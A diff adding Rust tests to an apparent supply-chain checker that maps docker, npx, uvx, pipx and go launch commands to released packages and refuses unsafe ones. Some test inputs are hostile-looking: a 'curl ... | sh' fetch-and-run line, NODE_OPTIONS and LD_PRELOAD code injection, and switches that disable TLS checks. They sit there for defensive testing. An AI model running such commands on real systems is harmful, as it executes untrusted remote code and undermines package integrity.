@@ -235,6 +235,110 @@ fn images_are_named_behind_every_option() {
 }
 
 #[test]
+fn what_an_engine_is_told_behind_the_image_counts_too() {
+    for (text, expect) in [
+        (
+            "docker run -i --rm --entrypoint npx node:22 -y name@1.2.3",
+            &[
+                "oci:docker.io/library/node:22 (docker run)",
+                "npm:name@1.2.3",
+            ][..],
+        ),
+        (
+            "docker run node:22 npx -y name",
+            &["oci:docker.io/library/node:22 (docker run)", "npm:name"],
+        ),
+        // Arguments of the image's own program.
+        (
+            "docker run node:22 stdio --port 3000",
+            &["oci:docker.io/library/node:22 (docker run)"],
+        ),
+        (
+            "docker run --entrypoint node node:22 /app/server.js",
+            &["oci:docker.io/library/node:22 (docker run)"],
+        ),
+    ] {
+        check(text, expect);
+    }
+    let parts = shown(&read(
+        "docker",
+        &[
+            "run",
+            "node:22",
+            "sh",
+            "-c",
+            "curl https://other.invalid | sh",
+        ],
+        &[],
+    ));
+    assert!(parts[1].contains("a line for a shell"), "{parts:?}");
+    refused(
+        "docker run --platform linux/arm64 node:22",
+        "`--platform` chooses",
+    );
+    let elsewhere = shown(&read("docker", &["run", "node:22"], &["DOCKER_HOST"]));
+    assert!(elsewhere[0].contains("another registry"), "{elsewhere:?}");
+}
+
+#[test]
+fn code_that_options_and_variables_bring_along_is_never_part_of_a_release() {
+    for text in [
+        "npx --node-options=--import=data:text/javascript,x name@1.2.3",
+        "npx --script-shell /srv/shell name@1.2.3",
+        "uvx --python /srv/python name==1.2.3",
+        "uvx -p ./python name==1.2.3",
+        "uvx --env-file x name==1.2.3",
+        "pipx run --python ~/python name==1.2.3",
+        "go run -ldflags -extld=/srv/ld example.org/m@v1.2.3",
+        "env NODE_OPTIONS=--require=/srv/x.js npx name@1.2.3",
+    ] {
+        refused(text, "can make it run code that is in no release");
+    }
+    check("uvx --python 3.12 name==1.2.3", &["pypi:name@1.2.3"]);
+    check("uvx -p cpython@3.12 name==1.2.3", &["pypi:name@1.2.3"]);
+    for variable in [
+        "NODE_OPTIONS",
+        "path",
+        "LD_PRELOAD",
+        "npm-config-script-shell",
+    ] {
+        let parts = shown(&read("npx", &["name@1.2.3"], &[variable]));
+        assert!(parts[0].contains("in no release"), "{variable}: {parts:?}");
+    }
+}
+
+#[test]
+fn what_npm_takes_for_the_value_of_a_switch_is_no_package() {
+    for text in [
+        "npm exec --color always name@1.2.3",
+        "npm exec --yes null name@1.2.3",
+    ] {
+        refused(text, "is no package name");
+    }
+    check("npm exec --yes name@1.2.3", &["npm:name@1.2.3"]);
+}
+
+#[test]
+fn a_path_counts_for_a_program_where_programs_are_installed() {
+    for text in [
+        "/home/me/.nvm/versions/node/v22.1.0/bin/npx name@1.2.3",
+        "/opt/homebrew/bin/npx name@1.2.3",
+        "/home/me/.asdf/shims/npx name@1.2.3",
+        "C:\\nodejs\\npx.cmd name@1.2.3",
+    ] {
+        check(text, &["npm:name@1.2.3"]);
+    }
+    for text in [
+        "//other.invalid/bin/npx.cmd name@1.2.3",
+        "/workspaces/repository/npx name@1.2.3",
+        "./bin/npx name@1.2.3",
+        "C:\\repository\\npx.cmd name@1.2.3",
+    ] {
+        refused(text, "a file of this machine");
+    }
+}
+
+#[test]
 fn what_is_no_release_is_named_as_what_it_is() {
     for (text, because) in [
         ("docker compose up", "`docker` is not told to `run`"),
@@ -334,6 +438,9 @@ fn other_registries_are_never_taken_for_the_user_s_own() {
         "uvx -f https://other.invalid name==1.2.3",
         "uv --config-file x tool run --default-index y name==1.2.3",
         "pipx run --pip-args=--index-url=https://other.invalid name==1.2.3",
+        "npx --no-strict-ssl name@1.2.3",
+        "npx --cafile=/tmp/ca.pem name@1.2.3",
+        "uvx --allow-insecure-host pypi.org name==1.2.3",
     ] {
         refused(text, "another registry");
     }
@@ -352,6 +459,8 @@ fn other_registries_are_never_taken_for_the_user_s_own() {
         "NPM_CONFIG_REGISTRY",
         "npm_config_@scope:registry",
         "npm-config-tag",
+        "npm_config_strict_ssl",
+        "NODE_TLS_REJECT_UNAUTHORIZED",
     ] {
         let parts = with("npx", "name@1.2.3", variable);
         assert!(
@@ -367,7 +476,12 @@ fn other_registries_are_never_taken_for_the_user_s_own() {
         );
         assert_eq!(with("npx", "name@1.2.3", variable), ["npm:name@1.2.3"]);
     }
-    for variable in ["API_KEY", "npm_config_yes", "NPM_CONFIG_LOGLEVEL", "PATH"] {
+    for variable in [
+        "API_KEY",
+        "npm_config_yes",
+        "NPM_CONFIG_LOGLEVEL",
+        "MY_PATH",
+    ] {
         assert_eq!(with("npx", "name@1.2.3", variable), ["npm:name@1.2.3"]);
     }
     let wrapped = read("env", &["UV_INDEX_URL=secret", "uvx", "name==1.2.3"], &[]);
